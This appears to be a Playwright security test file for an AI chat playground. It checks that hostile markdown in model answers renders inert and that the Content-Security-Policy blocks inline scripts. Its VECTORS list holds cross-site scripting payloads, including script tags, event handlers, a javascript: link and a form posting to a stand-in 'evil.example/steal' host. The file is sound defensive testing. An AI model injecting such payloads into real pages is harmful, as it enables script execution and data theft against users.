// Untrusted input in the real renderer: hostile model output stays inert, and the CSP is in force.
import { expect, test } from '@playwright/test';
import { launchPlayground, type Playground } from './harness';

let app: Playground | undefined;
test.afterEach(async () => {
  await app?.close();
  app = undefined;
});

// The fake echoes the prompt into its answer, so each vector arrives as model output.
const VECTORS = [
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'onerror\'">',
  '[click](javascript:window.__pwned="link")',
  '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svg-script"</script></svg>',
  '<form action="https://evil.example/steal"><input name="k"><button>go</button></form>',
  '<iframe src="https://evil.example/"></iframe>',
  '![remote](https://evil.example/pixel.png)',
];

test('hostile markdown in an answer renders inert and loads nothing remote', async () => {
  app = await launchPlayground({ env: { GEMINI_API_KEY: 'AIzaSecurityKey-0001' } });
  const { page } = app;
  const remote: string[] = [];
  page.on('request', (r) => {
    if (!r.url().startsWith(app!.origin)) remote.push(r.url());
  });
  for (const vector of VECTORS) {
    await page.getByTestId('prompt').fill(vector);
    await page.getByTestId('send').click();
    await expect(page.getByTestId('status').last()).toHaveAttribute('data-status', 'done');
  }
  const answers = page.getByTestId('answer');
  await expect(answers).toHaveCount(VECTORS.length);
  const found = await answers.evaluateAll((nodes) => ({
    scripts: nodes.flatMap((n) => [...n.querySelectorAll('script, iframe, form, object, embed')]).length,
    handlers: nodes.flatMap((n) => [...n.querySelectorAll('*')]).filter((el) => [...el.attributes].some((a) => a.name.startsWith('on'))).length,
    jsLinks: nodes.flatMap((n) => [...n.querySelectorAll('a')]).filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
    remoteImages: nodes.flatMap((n) => [...n.querySelectorAll('img')]).filter((img) => /^https?:/i.test(img.getAttribute('src') ?? '')).length,
  }));
  expect(found).toEqual({ scripts: 0, handlers: 0, jsLinks: 0, remoteImages: 0 });
  // Clicking what was a javascript: link does nothing and opens nothing.
  await answers.nth(2).getByText('click').click();
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  expect(app.opened).toEqual([]);
  expect(remote).toEqual([]);
});

test('the Content-Security-Policy is in force: an injected inline script is refused, by the CSP', async () => {
  app = await launchPlayground({ env: { GEMINI_API_KEY: 'AIzaSecurityKey-0002' } });
  const { page } = app;
  const result = await page.evaluate(async () => {
    const w = window as unknown as { __inline?: boolean };
    const violation = new Promise<string>((ok) =>
      document.addEventListener('securitypolicyviolation', (e) => ok(e.effectiveDirective), { once: true }),
    );
    const script = document.createElement('script');
    script.textContent = 'window.__inline = true';
    document.body.append(script);
    return { inline: w.__inline === true, directive: await violation };
  });
  expect(result).toEqual({ inline: false, directive: 'script-src-elem' });
  const response = await page.request.get(`${app.origin}/index.html`);
  expect(response.headers()['content-security-policy']).toContain("script-src 'self'");
});

test('a link in an answer opens only through the validated external path', async () => {
  app = await launchPlayground({ env: { GEMINI_API_KEY: 'AIzaSecurityKey-0003' } });
  const { page } = app;
  await page.getByTestId('prompt').fill('See [the docs](https://ai.google.dev/gemini-api/docs)');
  await page.getByTestId('send').click();
  await expect(page.getByTestId('status')).toHaveAttribute('data-status', 'done');
  const before = page.url();
  await page.getByTestId('answer').getByRole('link', { name: 'the docs' }).click();
  await expect.poll(() => app!.opened).toEqual(['https://ai.google.dev/gemini-api/docs']);
  expect(page.url()).toBe(before);
});
